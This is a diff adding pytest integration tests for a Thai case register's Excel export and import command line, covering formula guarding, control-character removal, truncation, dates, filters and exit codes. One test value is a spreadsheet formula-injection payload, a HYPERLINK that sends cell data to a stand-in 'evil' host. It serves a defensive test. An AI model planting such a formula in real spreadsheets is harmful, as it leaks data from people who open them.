@@ -1,0 +1,159 @@
+"""Exports that never run: formula-like text stays text, rejected characters go, long text is cut
+with a mark; the command line's filters, JSON summaries and exit codes."""
+from __future__ import annotations
+
+import datetime as dt
+import json
+
+import openpyxl
+import pytest
+from sqlalchemy import update
+
+from app.domain.excel_safety import EXCEL_MAX_CELL_CHARS, TRUNCATION_MARK
+from tests.integration.excel_support import legacy_rows, write_register
+
+
+def _rows(path):
+    sheet = openpyxl.load_workbook(path).active
+    return sheet, [[cell for cell in row] for row in sheet.iter_rows()]
+
+
+def _column(rows, header):
+    return [cell.value for cell in rows[0]].index(header)
+
+
+@pytest.mark.parametrize("title", ['=HYPERLINK("http://evil/?"&A1,"ดู")', "+66812345678", "-5", "@SUM(A1)",
+                                   "\tindent", "＝1+1"])
+def test_formula_like_text_is_written_as_text(app, make_case, tmp_path, title):
+    from app.extensions import db
+    from app.services.case_export import export_cases
+    from app.services.case_import import command_line_actor
+
+    make_case("DIW", title="placeholder")
+    with app.app_context():
+        from app.models import Case
+
+        db.session.execute(update(Case).values(title=title))
+        db.session.commit()
+        export_cases(db.session, command_line_actor(), tmp_path / "out.xlsx", lang="en")
+    _, rows = _rows(tmp_path / "out.xlsx")
+    cell = rows[1][_column(rows, "Title")]
+    assert cell.data_type == "s"
+    assert cell.value == "'" + title  # the documented guard: a leading apostrophe, the rest unchanged
+
+
+def test_control_characters_go_and_long_text_is_cut_with_a_mark(app, make_case, tmp_path):
+    from app.extensions import db
+    from app.models import Case
+    from app.services.case_export import export_cases
+    from app.services.case_import import command_line_actor
+
+    make_case("DIW")
+    long_text = "ก" * 40_000
+    with app.app_context():
+        db.session.execute(update(Case).values(title="กลิ่น\x01เหม็น\x1f", description=long_text))
+        db.session.commit()
+        export_cases(db.session, command_line_actor(), tmp_path / "out.xlsx", lang="th")
+    _, rows = _rows(tmp_path / "out.xlsx")
+    assert rows[1][_column(rows, "เรื่อง")].value == "กลิ่นเหม็น"
+    description = rows[1][_column(rows, "รายละเอียด")].value
+    assert len(description) <= EXCEL_MAX_CELL_CHARS and description.endswith(TRUNCATION_MARK)
+
+
+def test_dates_are_real_dates_in_bangkok_time(app, make_case, tmp_path):
+    from app.extensions import db
+    from app.models import Case
+    from app.services.case_export import export_cases
+    from app.services.case_import import command_line_actor
+
+    make_case("DIW")
+    with app.app_context():
+        db.session.execute(update(Case).values(submitted_at=dt.datetime(2024, 12, 18, 2, 30, tzinfo=dt.timezone.utc)))
+        db.session.commit()
+        export_cases(db.session, command_line_actor(), tmp_path / "out.xlsx", lang="en")
+    sheet, rows = _rows(tmp_path / "out.xlsx")
+    cell = rows[1][_column(rows, "Submitted")]
+    assert cell.is_date and cell.value == dt.datetime(2024, 12, 18, 9, 30)
+    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref
+    assert sheet.column_dimensions["F"].width > 20  # the title column is wide enough to read
+
+
+def _cli(app, *args):
+    runner = app.test_cli_runner()
+    result = runner.invoke(args=list(args))
+    lines = [line for line in result.output.splitlines() if line.strip()]
+    return result, json.loads(lines[-1])
+
+
+def test_cli_import_prints_counts_and_is_idempotent(app, tmp_path):
+    path = write_register(tmp_path / "reg.xlsx", legacy_rows())
+    result, summary = _cli(app, "cases", "import", str(path), "--agency", "DIW")
+    assert result.exit_code == 0, result.output
+    assert (summary["new"], summary["updated"], summary["unchanged"], summary["errors"]) == (4, 0, 0, 0)
+    result, summary = _cli(app, "cases", "import", str(path), "--agency", "diw")
+    assert result.exit_code == 0 and summary["unchanged"] == 4 and summary["new"] == 0
+
+
+def test_cli_import_dry_run_and_bad_rows(app, tmp_path):
+    rows = legacy_rows() + [[9, None, "X-9", "ไม่มีประเภทนี้", "ผิด", None, None, None, None, None, "1/1/2568", None, None]]
+    path = write_register(tmp_path / "bad.xlsx", rows)
+    result, summary = _cli(app, "cases", "import", str(path), "--agency", "DIW")
+    assert result.exit_code == 1 and summary["errors"] == 1 and summary["ok"] is False
+    assert "row 10, ประเภทเรื่อง: Unknown case type" in result.output
+    result, summary = _cli(app, "cases", "import", str(path), "--agency", "DIW", "--dry-run", "--valid-only")
+    assert result.exit_code == 0 and summary["new"] == 4 and summary["written"] is False
+    result, summary = _cli(app, "cases", "import", str(path), "--agency", "DIW", "--valid-only")
+    assert result.exit_code == 0 and summary["new"] == 4 and summary["errors"] == 1
+
+
+@pytest.mark.parametrize("content", [b"not a spreadsheet at all", b"PK\x03\x04broken zip"])
+def test_cli_import_of_a_bad_file_exits_non_zero(app, tmp_path, content):
+    path = tmp_path / "bad.xlsx"
+    path.write_bytes(content)
+    result, summary = _cli(app, "cases", "import", str(path), "--agency", "DIW")
+    assert result.exit_code == 1 and summary["ok"] is False and summary["error"]
+
+
+def test_cli_import_unknown_agency_and_missing_file(app, tmp_path):
+    path = write_register(tmp_path / "reg.xlsx", legacy_rows())
+    result, summary = _cli(app, "cases", "import", str(path), "--agency", "NOPE")
+    assert result.exit_code == 1 and "NOPE" in summary["error"]
+    result, summary = _cli(app, "cases", "import", str(tmp_path / "missing.xlsx"), "--agency", "DIW")
+    assert result.exit_code == 1
+
+
+def test_cli_export_filters(app, make_case, tmp_path):
+    make_case("DIW", title="หนึ่ง")
+    make_case("OPS", title="สอง")
+    out = tmp_path / "diw.xlsx"
+    result, summary = _cli(app, "cases", "export", str(out), "--agency", "DIW", "--status", "received",
+                           "--from", "1/1/2567", "--lang", "en")
+    assert result.exit_code == 0 and summary["cases"] == 1
+    _, rows = _rows(out)
+    assert [row[_column(rows, "Agency")].value for row in rows[1:]] == ["DIW"]
+    result, summary = _cli(app, "cases", "export", str(tmp_path / "none.xlsx"), "--to", "1/1/2560")
+    assert result.exit_code == 0 and summary["cases"] == 0
+    result, summary = _cli(app, "cases", "export", str(tmp_path / "x.xlsx"), "--status", "nonsense")
+    assert result.exit_code == 1 and summary["ok"] is False
+
+
+def test_cli_monthly_workbook(app, make_case, tmp_path):
+    make_case("DIW")
+    now = dt.datetime.now(dt.timezone(dt.timedelta(hours=7)))
+    out = tmp_path / "month.xlsx"
+    result, summary = _cli(app, "cases", "export-monthly", str(out), "--month", f"{now.year + 543}-{now.month:02d}")
+    assert result.exit_code == 0 and summary["agencies"] == 1, result.output
+    workbook = openpyxl.load_workbook(out)
+    assert [sheet.title for sheet in workbook.worksheets] == ["สรุปรายหน่วยงาน", "เรื่องเกินกำหนด", "ตามประเภทเรื่อง"]
+    result, summary = _cli(app, "cases", "export-monthly", str(out), "--month", "2025-13")
+    assert result.exit_code == 1
+
+
+def test_an_export_imports_back_unchanged(app, tmp_path):
+    """The export's headers are import aliases: a clerk can export, edit and import again."""
+    _, summary = _cli(app, "cases", "import", str(write_register(tmp_path / "reg.xlsx", legacy_rows())), "--agency", "DIW")
+    out = tmp_path / "export.xlsx"
+    _cli(app, "cases", "export", str(out), "--agency", "DIW")
+    result, summary = _cli(app, "cases", "import", str(out), "--agency", "DIW")
+    assert result.exit_code == 0, result.output
+    assert (summary["new"], summary["updated"], summary["errors"]) == (0, 0, 0) and summary["unchanged"] == 4
